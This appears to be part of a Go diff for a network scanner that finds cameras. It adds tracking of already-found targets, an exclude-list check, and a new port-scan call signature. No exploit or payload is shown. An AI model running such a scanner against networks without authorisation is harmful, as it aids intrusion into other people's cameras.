+// MarkFound records a target found in an earlier run so it is skipped
+func (s *Scanner) MarkFound(ip string) {
+	s.successMap.Store(ip, true)
+}
+
+// Found reports whether a camera was already found on target
+func (s *Scanner) Found(target string) bool {
+	_, found := s.successMap.Load(target)
+	return found
+}
+
 // GetFoundCount returns the number of found cameras
 func (s *Scanner) GetFoundCount() int32 {
 	return atomic.LoadInt32(&s.found)
@@ -236,7 +1742,7 @@ func (s *Scanner) FindOpenPorts(limit int32) []string {
 		go func() {
 			defer wg.Done()
 			for ip := range portChan {
-				if utils.ScanPort(ip, s.timeout) {
+				if utils.ScanPort(context.Background(), s.dialer, ip, s.timeouts.Connect) {
 					mutex.Lock()
 					openPorts = append(openPorts, ip)
 					mutex.Unlock()
@@ -258,8 +1764,11 @@ func (s *Scanner) FindOpenPorts(limit int32) []string {
 
 			// Skip if IP was already attempted
 			if _, exists := s.attemptedIPs.LoadOrStore(ip, true); !exists {
-				portChan <- ip
 				attempts++
+				if s.exclude.ContainsHost(ip) {
+					continue
+				}
+				portChan <- ip
 
 				// Periodically report progress if verbose
 				if s.verbose && attempts%1000 == 0 {